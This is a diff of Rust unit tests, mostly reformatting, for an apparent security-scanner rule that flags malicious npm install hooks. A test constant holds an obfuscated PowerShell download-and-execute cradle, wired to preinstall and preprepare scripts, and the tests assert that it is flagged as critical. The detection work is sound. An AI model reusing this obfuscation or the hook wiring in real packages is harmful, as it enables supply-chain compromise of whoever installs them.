@@ -322,7 +322,9 @@ mod ps_tests {
     const PS: &str = "$u = -join ([char[]](104,116,116,112))\n$c = New-Object ('Net.' + 'Web' + 'Client')\n$d = $c.('Download' + 'String')($u)\n& ((Get-Variable '*mdr*').Name[3,11,2] -join '') $d\n";
 
     fn pkg(ps: &str) -> String {
-        format!("=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{{\"preinstall\":\"powershell -NoProfile -File tools/p.ps1\"}}}}\n=== tools/p.ps1\n{ps}")
+        format!(
+            "=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{{\"preinstall\":\"powershell -NoProfile -File tools/p.ps1\"}}}}\n=== tools/p.ps1\n{ps}"
+        )
     }
 
     #[test]
@@ -333,9 +335,15 @@ mod ps_tests {
 
     #[test]
     fn the_hidden_cradle_run_by_a_prepare_hook_is_critical() {
-        let case = format!("=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{{\"preprepare\":\"powershell -NoProfile -File tools/p.ps1\"}}}}\n=== tools/p.ps1\n{PS}");
+        let case = format!(
+            "=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{{\"preprepare\":\"powershell -NoProfile -File tools/p.ps1\"}}}}\n=== tools/p.ps1\n{PS}"
+        );
         let hits = run(&super::RULE, "package.json", &case);
-        assert!(hits.iter().any(|h| h.severity == crate::model::Severity::Critical), "{hits:?}");
+        assert!(
+            hits.iter()
+                .any(|h| h.severity == crate::model::Severity::Critical),
+            "{hits:?}"
+        );
     }
 
     #[test]
@@ -358,7 +366,9 @@ mod py_tests {
     use crate::rules::testing::run;
 
     fn pkg(py: &str) -> String {
-        format!("=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}}\n=== binding.gyp\n{{\"targets\":[{{\"target_name\":\"a\",\"actions\":[{{\"action_name\":\"g\",\"inputs\":[],\"outputs\":[\"c.h\"],\"action\":[\"python3\",\"tools/gen.py\",\"<@(_outputs)\"]}}]}}]}}\n=== tools/gen.py\n{py}")
+        format!(
+            "=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}}\n=== binding.gyp\n{{\"targets\":[{{\"target_name\":\"a\",\"actions\":[{{\"action_name\":\"g\",\"inputs\":[],\"outputs\":[\"c.h\"],\"action\":[\"python3\",\"tools/gen.py\",\"<@(_outputs)\"]}}]}}]}}\n=== tools/gen.py\n{py}"
+        )
     }
 
     #[test]
